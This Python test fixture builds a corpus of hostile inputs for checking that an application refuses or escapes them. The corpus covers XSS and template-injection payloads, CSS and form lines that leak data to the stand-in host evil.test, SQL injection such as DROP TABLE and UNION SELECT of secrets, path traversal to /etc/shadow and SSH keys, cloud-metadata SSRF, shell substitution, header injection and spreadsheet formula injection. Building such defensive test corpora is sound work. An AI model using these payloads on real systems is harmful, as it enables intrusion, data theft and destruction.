"""Two hundred and more texts that mean harm, each to be refused or kept as the text it is."""

from __future__ import annotations

from itertools import product
from random import Random

_RUN = "window.hostile=1"
_SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"javascript:{_RUN}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{{ 7*7 }}",
    "{% raw %}",
    "{{ config }}",
    "${7*7}",
    f"<math><mtext><script>{_RUN}</script>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<form action=//evil.test><button>",
    "<link rel=stylesheet href=//evil.test>",
    f"[x](javascript:{_RUN})",
    "<!--",
    "]]>",
]
_CSS = [
    "body{display:none}",
    "}body{background:url(//evil.test)}",
    "@import '//evil.test/x.css';",
    "a{behavior:url(x)}",
    "a{width:expression(alert(1))}",
    "input[value^=a]{background:url(//evil.test/a)}",
    "@font-face{font-family:x;src:url(//evil.test)}",
    "red;}</style><b>",
    "\\3c script\\3e",
    "/*",
    "#fff;position:fixed",
]
_SQL = [
    "'; DROP TABLE tenants; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "' UNION SELECT sealed_secret FROM sso_connections --",
    "\\'; --",
    "%' ESCAPE '!",
    "x' AND 1=randomblob(1e9)--",
    "$$; DELETE FROM users; $$",
    ":name",
    "%(name)s",
    "?",
]
_PATHS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2f",
    "....//....//",
    "C:\\",
    "\\\\evil.test\\share",
    "~root/.ssh/id_rsa",
    "x/../../control.sqlite",
    "con",
    ".",
    "..",
    "//evil.test",
    "http://169.254.169.254/latest",
    "| cat /etc/passwd",
    "$(id)",
    "`id`",
]
_UNICODE = [
    "\u0000",
    "a\u0000b",
    "\u202eevil\u202c",
    "\u200b",
    "\ufeff",
    "\ufffe",
    "\ud800",
    "\udfff\ud800",
    "\u0130\u0131",
    "ﬃ",
    "Å\u030a" * 10,
    "e" + "\u0301" * 150,
    "👩‍👩‍👧‍👦" * 8,
    "\U0010ffff",
    "\u2028\u2029",
    "\r\nSet-Cookie: a=b",
    "a\nb",
    "\t",
    "\u001b[31m",
    "\u007f",
    "\uff1cscript\uff1e",
    "\u00adsoft",
    "\u0430dmin",
    "\u061c",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1",
]
_LONG = ["a" * 199, "a" * 201, "a" * 321, "é" * 5_000, "<b>" * 10_000, "9" * 100_000, " " * 300, "\n" * 300]
_NOTHING = ["", " ", "null", "None", "NaN", "true", "0", "[]", "{}", "undefined"]
_AROUND = ['"><{}', "'><{}", " {} ", "\\{}"]

SCRIPTS = _SCRIPTS + [frame.replace("{}", text) for frame, text in product(_AROUND, _SCRIPTS)]
CASES = SCRIPTS + _CSS + _SQL + _PATHS + _UNICODE + _LONG + _NOTHING
# Some of each kind, for every run; the whole is for the long one.
SAMPLE = [
    text
    for kind in (SCRIPTS, _CSS, _SQL, _PATHS, _UNICODE, _LONG, _NOTHING)
    for text in Random(20261126).sample(kind, min(len(kind), 8))
]
